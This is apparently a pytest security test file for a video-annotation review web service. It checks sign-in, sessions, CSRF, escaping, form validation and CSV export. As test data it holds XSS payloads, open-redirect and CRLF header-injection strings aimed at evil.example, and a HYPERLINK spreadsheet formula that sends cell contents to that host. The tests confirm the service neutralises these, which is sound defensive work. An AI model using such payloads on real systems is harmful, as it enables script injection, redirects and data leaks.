"""The review pages against hostile and careless use: sessions that must end, sign-in redirects
that must stay on the review pages, reviewers that could not review, item ids and texts that are
markup or URL syntax, more annotators than shortcuts, labels of turns an item lacks, forms and
API bodies that are not what they should be, exports kept from caches, and pages that do not
exist. Every answer is a page or a problem that says why, never a 500."""

from __future__ import annotations

import csv
import gc
import html
import io
import json
import re
import tracemalloc
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
from fastapi.testclient import TestClient
from markupsafe import escape
from sqlalchemy import update
from sqlalchemy.orm import Session

from framejudge.calibration.inputs import load_human_labels
from framejudge.service.review.routes import templates
from framejudge.service.store import ApiKey, CalibrationRun, create_key, revoke_key, save_calibration
from tests.postgres import database_url  # noqa: F401 - the fixture
from tests.service.test_review import (ITEMS, _turn, calibration, csrf_of, decide, review_app, sign_in, unit_version,
                                       version_in)

SCRIPT = "<script>alert(1)</script>"
QUOTE = '"><img src=x onerror=alert(1)>'
IDS = ["a b/c?d&e#f=g%20", "ünï😀", SCRIPT, QUOTE, "javascript:alert(1)", "short", "ghost"]


@pytest.fixture()
def env(tmp_path):
    with review_app(tmp_path) as e:
        e.update(calibration(e))
        yield e


def key_id(key: str) -> str:
    return key.split("_")[1]


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


# ------------------------------------------------------------------------ sessions and sign-in

def test_signing_in_again_ends_the_session_the_browser_held(env):
    client = env["client"]
    sign_in(client, env["owner"])
    first = client.cookies.get("framejudge_review")
    sign_in(client, env["owner"])
    assert client.cookies.get("framejudge_review") != first
    old = TestClient(client.app)
    old.cookies.set("framejudge_review", first)
    gone = old.get("/review", follow_redirects=False)
    assert gone.status_code == 303 and "/review/sign-in" in gone.headers["location"]
    assert client.get("/review").status_code == 200


def test_signing_out_needs_the_token_and_ends_the_session(env):
    client = env["client"]
    sign_in(client, env["owner"])
    token = client.cookies.get("framejudge_review")
    refused = client.post("/review/sign-out", data={}, follow_redirects=False)
    assert refused.status_code == 403 and client.get("/review").status_code == 200  # a cross-site post ends nothing
    out = client.post("/review/sign-out", data={"csrf": csrf_of(client.get("/review").text)}, follow_redirects=False)
    assert out.status_code == 303
    stale = TestClient(client.app)
    stale.cookies.set("framejudge_review", token)
    assert stale.get("/review", follow_redirects=False).status_code == 303


def test_over_https_the_cookies_are_secure(env):
    client = TestClient(env["client"].app, base_url="https://testserver")
    signed = sign_in(client, env["owner"])
    cookies = [v for k, v in signed.headers.multi_items() if k == "set-cookie" and v.startswith("framejudge_review=")]
    assert cookies and all("Secure" in c and "HttpOnly" in c for c in cookies)


def test_a_revoked_key_or_one_without_the_review_scope_loses_its_session(env):
    second, other = TestClient(env["client"].app), TestClient(env["client"].app)
    sign_in(second, env["second"])
    lost = create_key(env["engine"], ["review"], "loses its scope")
    sign_in(other, lost)
    assert second.get(f"/review/{env['id']}").status_code == 200 and other.get("/review").status_code == 200
    revoke_key(env["engine"], key_id(env["second"]))
    with Session(env["engine"]) as s, s.begin():
        s.execute(update(ApiKey).where(ApiKey.id == key_id(lost)).values(scopes="grade"))
    for client, path in ((second, f"/review/{env['id']}"), (other, "/review")):
        sent = client.get(path, follow_redirects=False)
        assert sent.status_code == 303 and "expired=1" in sent.headers["location"]


@pytest.mark.parametrize("given", ["/review/../v1/jobs", "/review/%2e%2e/v1/jobs", "/reviewer", "/review//evil.example",
                                   "//evil.example/review", "https://evil.example/review", "/review\\evil.example",
                                   "/review\r\nSet-Cookie: a=b", "/review/./x"])
def test_sign_in_goes_back_only_to_a_review_page(env, given):
    client = env["client"]
    token = csrf_of(client.get("/review/sign-in").text)
    went = client.post("/review/sign-in", data={"api_key": env["owner"], "csrf": token, "next": given},
                       follow_redirects=False)
    assert went.status_code == 303 and went.headers["location"] == "/review"


def test_sign_in_goes_back_to_the_page_asked_for(env):
    client = env["client"]
    asked = f"/review/{env['id']}/unit?item=a%2Fb%26c&turn=0&slice=k%3Av"
    token = csrf_of(client.get("/review/sign-in", params={"next": asked}).text)
    went = client.post("/review/sign-in", data={"api_key": env["owner"], "csrf": token, "next": asked},
                       follow_redirects=False)
    assert went.headers["location"] == asked


def test_reviewers_must_be_keys_that_may_review(env):
    client, owner = env["client"], bearer(env["owner"])
    grader = key_id(env["grader"])
    put = client.put(f"/v1/calibrate/{env['id']}/reviewers", json={"reviewers": [grader]}, headers=owner)
    assert put.status_code == 422 and "lacks the 'review' scope" in put.json()["detail"]
    body = {"labels": env["labels"], "verdicts": env["records"], "replicates": 10, "reviewers": [grader]}
    made = client.post("/v1/calibrate", json=body, headers=owner)
    assert made.status_code == 422 and grader in made.json()["detail"]
    revoke_key(env["engine"], key_id(env["second"]))
    put = client.put(f"/v1/calibrate/{env['id']}/reviewers", json={"reviewers": [key_id(env["second"])]}, headers=owner)
    assert put.status_code == 422 and "no valid API key" in put.json()["detail"]


def test_a_reviewer_named_twice_is_refused_by_every_door(env):
    client, owner, second = env["client"], bearer(env["owner"]), key_id(env["second"])
    said = f"reviewers.1: key id '{second}' is already named (reviewers.0); name each reviewer once"
    put = client.put(f"/v1/calibrate/{env['id']}/reviewers", json={"reviewers": [second, second]}, headers=owner)
    assert put.status_code == 422 and put.json()["detail"] == said
    body = {"labels": env["labels"], "verdicts": env["records"], "replicates": 10, "reviewers": [second, second]}
    made = client.post("/v1/calibrate", json=body, headers=owner)
    assert made.status_code == 422 and made.json()["detail"] == said
    once = client.put(f"/v1/calibrate/{env['id']}/reviewers", json={"reviewers": [second]}, headers=owner)
    assert once.status_code == 200 and once.json() == {"reviewers": [second]}
    with Session(env["engine"]) as s:
        assert s.get(CalibrationRun, env["id"]).reviewers == second


def test_the_templates_escape_and_the_pages_say_so(env):
    assert templates.env.autoescape("unit.html") is True  # Jinja's autoescape for .html templates
    client = env["client"]
    for page in (client.get("/review/sign-in"), client.get("/review/no-such-page")):
        assert "script-src 'self'" in page.headers["content-security-policy"]
        assert page.headers["cache-control"] == "no-store" and page.headers["x-frame-options"] == "DENY"


# ------------------------------------------------------------------------ hostile items, many annotators

def hostile_calibration(env: dict[str, Any]) -> tuple[str, str]:
    """Item ids and texts that are markup and URL syntax, twelve annotators, a judge error, labels
    for a turn the item does not have, for an item not given and for one with no verdict."""
    client = env["client"]
    owner = create_key(env["engine"], ["calibrate", "review", "grade"], "lead " + QUOTE)
    items = [{"id": i, "video": "c.mp4", "domain": SCRIPT, "metadata": {SCRIPT: QUOTE, "k:v": "x:y"},
              "turns": [_turn(SCRIPT, QUOTE, SCRIPT + " A", QUOTE + " B")]} for i in IDS]
    records = []
    for item in items:
        got = client.post("/v1/grade", json={"item": item}, headers=bearer(owner))
        assert got.status_code == 200, got.text
        records += got.json()["records"]
    records.append({"record": "judge_error", "item_id": "failed", "turn": 0, "kind": "bad_input", "message": SCRIPT})
    items.append({"id": "failed", "video": "c.mp4", "turns": [_turn(SCRIPT, QUOTE, SCRIPT, QUOTE)]})
    labels = [{"item_id": i, "turn": 0, "annotator": f"{QUOTE}{n}" if n else SCRIPT, "category_a": "Successful",
               "metadata": {QUOTE: SCRIPT}} for i in [*IDS, "failed"] for n in range(12)]
    labels += [{"item_id": "short", "turn": 3, "annotator": "h1", "category_a": "Successful"},
               {"item_id": "unjudged", "turn": 0, "annotator": "h1", "preference": "A"}]
    body = {"labels": labels, "verdicts": records, "items": [it for it in items if it["id"] != "ghost"],
            "replicates": 10}
    made = client.post("/v1/calibrate", json=body, headers=bearer(owner))
    assert made.status_code == 200, made.text
    return made.json()["id"], owner


def unit_links(page: str) -> list[str]:
    return [html.unescape(u) for u in re.findall(r'href="(/review/[0-9a-f]+/unit\?[^"]+)"', page.split('id="units"')[1])]


def test_hostile_ids_and_texts_are_shown_as_text_and_round_trip(env):
    run_id, owner = hostile_calibration(env)
    client = env["client"]
    sign_in(client, owner)
    queue = client.get(f"/review/{run_id}")
    assert queue.status_code == 200 and SCRIPT not in queue.text and QUOTE not in queue.text
    links = unit_links(queue.text)
    assert len(links) == len(IDS) + 3  # every labelled unit, the short item's turn 3 and the unjudged one
    seen = set()
    for link in links:
        page = client.get(link)
        assert page.status_code == 200, (link, page.text)
        assert SCRIPT not in page.text and QUOTE not in page.text, link
        item = html.unescape(re.search(r'name="item" value="([^"]*)"', page.text).group(1))
        turn = re.search(r'name="turn" value="([^"]*)"', page.text).group(1)
        asked = parse_qs(urlsplit(link).query)
        assert (asked["item"], asked["turn"]) == ([item], [turn])  # the unit the link named
        assert f"<h1>{escape(item)} <small>" in page.text
        seen.add((item, int(turn)))
    assert seen == {*((i, 0) for i in IDS), ("failed", 0), ("short", 3), ("unjudged", 0)}
    failed = client.get(f"/review/{run_id}/unit", params={"item": "failed"}).text
    assert "The judge failed on this turn (bad_input): &lt;script&gt;" in failed
    short = client.get(f"/review/{run_id}/unit", params={"item": "short", "turn": 3}).text
    assert "not given this item (or not this turn of it)" in short
    for item in IDS:  # Submit & next lands on a unit that exists, whatever the id
        done = decide(client, run_id, item, action="adopt_annotator:" + QUOTE + "11")
        assert done.status_code == 303, done.text
        assert client.get(done.headers["location"]).status_code == 200
    got = client.get(f"/v1/calibrate/{run_id}/decisions", headers=bearer(owner)).json()
    assert [d["item_id"] for d in got] == IDS and {d["source"] for d in got} == {QUOTE + "11"}


def test_every_annotator_can_be_adopted_and_nine_have_shortcuts(env):
    run_id, owner = hostile_calibration(env)
    client = env["client"]
    sign_in(client, owner)
    page = client.get(f"/review/{run_id}/unit", params={"item": "short"}).text
    buttons = re.findall(r'<input type="radio" [^>]*class="adopt-annotator"[^>]*>', page)
    assert len(buttons) == 12
    assert [re.search(r'data-key="(\d)"', b).group(1) for b in buttons[:9]] == [str(n) for n in range(1, 10)]
    assert not any("data-key" in b for b in buttons[9:])


def test_a_slice_whose_key_holds_a_colon_still_filters(env):
    run_id, owner = hostile_calibration(env)
    client = env["client"]
    sign_in(client, owner)
    queue = client.get(f"/review/{run_id}").text
    assert "<option >k:v:x:y</option>" in queue
    kept = client.get(f"/review/{run_id}", params={"slice": "k:v:x:y"})
    assert kept.status_code == 200 and len(unit_links(kept.text)) == len(IDS)  # not the labels of turn 3 alone


# ------------------------------------------------------------------------ forms and bodies

@pytest.mark.parametrize("database_url", ["sqlite", "postgres"], indirect=True)
def test_two_browsers_deciding_at_once_keep_each_decision_made_on_what_its_reviewer_saw(tmp_path, database_url):
    """Decisions on different units at once are all kept; of decisions made at once on the same
    sight of one unit, one is kept and each other is refused (409, the unit shown again as it now
    stands), nothing lost silently and nothing decided on a unit its reviewer did not see."""
    with review_app(tmp_path, database_url) as env:
        env.update(calibration(env))
        two_browsers_at_once(env)


def two_browsers_at_once(env: dict[str, Any]) -> None:
    from concurrent.futures import ThreadPoolExecutor

    first, second = TestClient(env["client"].app), TestClient(env["client"].app)
    sign_in(first, env["owner"])
    sign_in(second, env["second"])
    pages = {id(c): c.get(f"/review/{env['id']}/unit", params={"item": "split"}).text for c in (first, second)}
    assert version_in(pages[id(first)]) == version_in(pages[id(second)])  # both see the unit undecided

    def post(n: int) -> tuple[int, str]:
        client = (first, second)[n % 2]
        got = client.post(f"/review/{env['id']}/decide",
                          data={"csrf": csrf_of(pages[id(client)]), "item": "split", "turn": "0",
                                "version": version_in(pages[id(client)]), "action": "manual",
                                "category_a": "Successful", "note": str(n)}, follow_redirects=False)
        return got.status_code, got.text

    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(post, range(12)))
    statuses = [status for status, _ in answers]
    assert statuses.count(303) == 1 and statuses.count(409) == 11, statuses
    refused = next(text for status, text in answers if status == 409)
    assert "has changed since it was shown" in html.unescape(refused) and "nothing was saved" in html.unescape(refused)
    assert version_in(refused) != version_in(pages[id(first)])  # the unit again, as it now stands
    got = env["client"].get(f"/v1/calibrate/{env['id']}/decisions", headers=bearer(env["owner"])).json()
    assert [int(d["note"]) for d in got] == [statuses.index(303)]
    assert got[0]["unit_version"] == version_in(pages[id(first)])

    units = [("disputed", 0), ("agreed", 0), ("talk", 0), ("talk", 1)]

    def other(n: int) -> int:
        client = (first, second)[n % 2]
        item, turn = units[n]
        page = client.get(f"/review/{env['id']}/unit", params={"item": item, "turn": turn}).text
        return client.post(f"/review/{env['id']}/decide", data={
            "csrf": csrf_of(page), "item": item, "turn": str(turn), "version": version_in(page), "action": "manual",
            "category_a": "Successful", "note": f"{item} {turn}"}, follow_redirects=False).status_code

    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(other, range(len(units)))) == [303] * len(units)
    got = env["client"].get(f"/v1/calibrate/{env['id']}/decisions", headers=bearer(env["owner"])).json()
    assert sorted(d["note"] for d in got[1:]) == sorted(f"{i} {t}" for i, t in units)


@pytest.mark.parametrize("turn", ["²", "9" * 5000, "-1", " 1", "0x1"])
def test_a_form_whose_turn_is_not_a_number_gets_a_page(env, turn):
    client = env["client"]
    sign_in(client, env["owner"])
    csrf = csrf_of(client.get("/review").text)
    bad = client.post(f"/review/{env['id']}/decide", data={"csrf": csrf, "item": "disputed", "turn": turn,
                                                           "action": "adopt_judge"})
    assert bad.status_code == 422 and bad.headers["content-type"].startswith("text/html")
    assert "turn" in bad.text


@pytest.mark.parametrize("body, words", [
    ({"item_id": "disputed", "action": "adopt_judge", "labels": {"category_a": "Successful"}},
     "labels: only a manual decision sets labels"),
    ({"item_id": "disputed", "action": "manual", "source": "h1", "labels": {"category_a": "Successful"}},
     "source: only adopt_annotator names an annotator"),
    ({"item_id": "disputed", "action": "skip", "labels": {}}, "labels: only a manual decision"),
    ({"item_id": "disputed", "action": "adopt_annotator"}, "source: name the annotator whose labels adopt_annotator adopts"),
    ({"item_id": "", "action": "skip"}, "item_id"),
    ({"item_id": "disputed", "action": "skip", "note": "x" * 20_001}, "note"),
    ({"item_id": "disputed", "turn": "0", "action": "skip"}, "turn: Input should be a valid integer"),
    ({"item_id": "disputed", "action": "skip", "flag_rubric": "yes"}, "flag_rubric: Input should be a valid boolean"),
])
def test_api_decisions_that_would_drop_or_misread_something_are_refused(env, body, words):
    version = unit_version(env["client"], env["id"], env["owner"], "disputed")  # each refused for what it says
    got = env["client"].post(f"/v1/calibrate/{env['id']}/decisions", json={**body, "unit_version": version},
                             headers=bearer(env["owner"]))
    assert got.status_code == 422 and words in got.json()["detail"], got.text
    assert env["client"].get(f"/v1/calibrate/{env['id']}/decisions", headers=bearer(env["owner"])).json() == []


def test_a_form_button_naming_a_source_for_the_judge_is_refused(env):
    client = env["client"]
    sign_in(client, env["owner"])
    bad = decide(client, env["id"], "disputed", action="adopt_judge:h1")
    assert bad.status_code == 422 and "source: only adopt_annotator" in bad.text


def test_a_form_field_or_query_parameter_given_twice_gets_a_page_not_the_last_value(env):
    client = env["client"]
    sign_in(client, env["owner"])
    csrf = csrf_of(client.get("/review").text)
    twice = [("csrf", csrf), ("item", "disputed"), ("turn", "0"), ("action", "skip"), ("action", "adopt_judge")]
    bad = client.post(f"/review/{env['id']}/decide", content=urlencode(twice),
                      headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert bad.status_code == 422 and bad.headers["content-type"].startswith("text/html")
    assert "form.action: given 2 times; give it once" in html.unescape(bad.text)
    assert client.get(f"/v1/calibrate/{env['id']}/decisions", headers=bearer(env["owner"])).json() == []
    page = client.get(f"/review/{env['id']}/unit?item=disputed&item=agreed")
    assert page.status_code == 422 and "query.item: given 2 times" in html.unescape(page.text)


def test_a_calibration_stored_before_review_says_so(env):
    old = save_calibration(env["engine"], key_id(env["owner"]), "{}", None)
    client = env["client"]
    sign_in(client, env["owner"])
    assert "stored without its inputs" in client.get("/review").text
    for path in (f"/review/{old}", f"/review/{old}/unit?item=x", f"/review/{old}/labels"):
        page = client.get(path)
        assert page.status_code == 409 and page.headers["content-type"].startswith("text/html")
        assert "stored without its inputs" in page.text
    for path in (f"/v1/calibrate/{old}/labels", f"/v1/calibrate/{old}/decisions"):
        got = client.get(path, headers=bearer(env["owner"]))
        assert got.status_code == 409 and got.headers["content-type"] == "application/problem+json"


# ------------------------------------------------------------------------ exports, unknown pages, the cache

def test_exported_labels_are_kept_from_caches(env):
    client = env["client"]
    sign_in(client, env["owner"])
    for got in (client.get(f"/review/{env['id']}/labels", params={"format": "csv"}),
                client.get(f"/v1/calibrate/{env['id']}/labels", headers=bearer(env["owner"]))):
        assert got.status_code == 200
        assert got.headers["cache-control"] == "no-store" and got.headers["x-content-type-options"] == "nosniff"


def test_csv_exports_guard_formula_cells_and_read_them_back_unchanged(env, tmp_path):
    client, owner = env["client"], bearer(env["owner"])
    note = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    made = client.post(f"/v1/calibrate/{env['id']}/decisions", headers=owner,
                       json={"item_id": "disputed", "action": "adopt_judge", "cause": "humans_wrong", "note": note,
                             "unit_version": unit_version(client, env["id"], env["owner"], "disputed")})
    assert made.status_code == 201, made.text
    got = client.get(f"/v1/calibrate/{env['id']}/labels", params={"format": "csv"}, headers=owner)
    cells = [c for row in csv.reader(io.StringIO(got.text, newline="")) for c in row]
    assert "'" + note in cells and note not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # none a spreadsheet would run
    path = tmp_path / "gold.csv"
    path.write_text(got.text, encoding="utf-8")
    back = {r.item_id: r for r in load_human_labels(path)}  # as calibrate --human and --gold read it
    assert back["disputed"].metadata["note"] == note
    jsonl = client.get(f"/v1/calibrate/{env['id']}/labels", headers=owner).text
    assert json.loads(next(line for line in jsonl.splitlines() if "disputed" in line))["metadata"]["note"] == note


def test_unknown_review_pages_and_methods_get_a_page(env):
    client = env["client"]
    sign_in(client, env["owner"])
    for got, status in ((client.get(f"/review/{env['id']}/nope"), 404), (client.put("/review/sign-in"), 405),
                        (client.get("/review/static/nope.js"), 404)):
        assert got.status_code == status and got.headers["content-type"].startswith("text/html"), got.text
        assert 'id="error"' in got.text


def test_the_figures_cache_keeps_no_calibrations_text(tmp_path):
    """The queue page's figures are kept per gold, not with a copy of the calibration's stored
    texts per decision (which a large calibration would turn into gigabytes)."""
    with review_app(tmp_path) as env:
        made = calibration(env)
        client, owner = env["client"], bearer(made["owner"])
        text = "x" * 19_000
        items = [*ITEMS, *({"id": f"pad-{n}", "video": "c.mp4", "turns": [_turn(text, text, text, text)]}
                           for n in range(40))]  # over 2 MB of stored items
        big = client.post("/v1/calibrate", json={"labels": made["labels"], "verdicts": made["records"],
                                                 "items": items, "replicates": 10}, headers=owner)
        assert big.status_code == 200, big.text
        run_id = big.json()["id"]
        sign_in(client, made["owner"])
        assert client.get(f"/review/{run_id}").status_code == 200
        gc.collect()
        tracemalloc.start()
        try:
            before = tracemalloc.get_traced_memory()[0]
            for n in range(4):  # four decisions, each changing the gold, each followed by the queue page
                action = {"action": "adopt_judge"} if n % 2 else {"action": "manual", "category_a": "Missing"}
                assert decide(client, run_id, "disputed", **action).status_code == 303
                assert client.get(f"/review/{run_id}").status_code == 200
            gc.collect()
            kept = tracemalloc.get_traced_memory()[0] - before
        finally:
            tracemalloc.stop()
    assert kept < 4_000_000, kept  # the texts are over 2 MB a copy: four copies kept would be over 8 MB


@pytest.fixture()
def video_server(tmp_path):
    """A loopback server that serves c.mp4, as a site on the allow-list would."""
    import functools
    import threading
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

    (tmp_path / "site").mkdir()
    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(tmp_path / "site")))
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    yield tmp_path / "site", f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_video_url_is_fetched_for_the_page_and_not_kept(tmp_path, video_server):
    site, base = video_server
    with review_app(tmp_path, url_hosts=[base.removeprefix("http://")], url_allow_private=True) as env:
        made = calibration(env)
        (site / "c.mp4").write_bytes((env["media"] / "c.mp4").read_bytes())
        items = [{**item, "video": f"{base}/c.mp4"} for item in ITEMS]
        body = {"labels": made["labels"], "verdicts": made["records"], "items": items, "replicates": 10}
        got = env["client"].post("/v1/calibrate", json=body, headers=bearer(made["owner"]))
        assert got.status_code == 200, got.text
        client = env["client"]
        sign_in(client, made["owner"])
        for _ in range(3):
            page = client.get(f"/review/{got.json()['id']}/unit", params={"item": "disputed"}).text
            assert page.count('src="data:image/jpeg;base64,') == 4
        assert [p for p in env["settings"].upload_dir.rglob("*") if p.is_file()] == []  # no copy left per view


def test_a_key_with_a_nul_on_the_sign_in_form_is_unknown_on_every_database(tmp_path, database_url):
    from framejudge.service.app import create_app
    from framejudge.service.settings import Settings

    settings = Settings(database_url=database_url, upload_dir=tmp_path / "uploads", run_worker=False)
    with TestClient(create_app(settings)) as client:
        for given in ("fj_ab\x00cd_secret", "fj_\x00_\x00", "fj_" + "a" * 5000 + "_x"):
            token = csrf_of(client.get("/review/sign-in").text)
            refused = client.post("/review/sign-in", data={"api_key": given, "csrf": token}, follow_redirects=False)
            assert refused.status_code == 401 and "Unknown API key." in refused.text
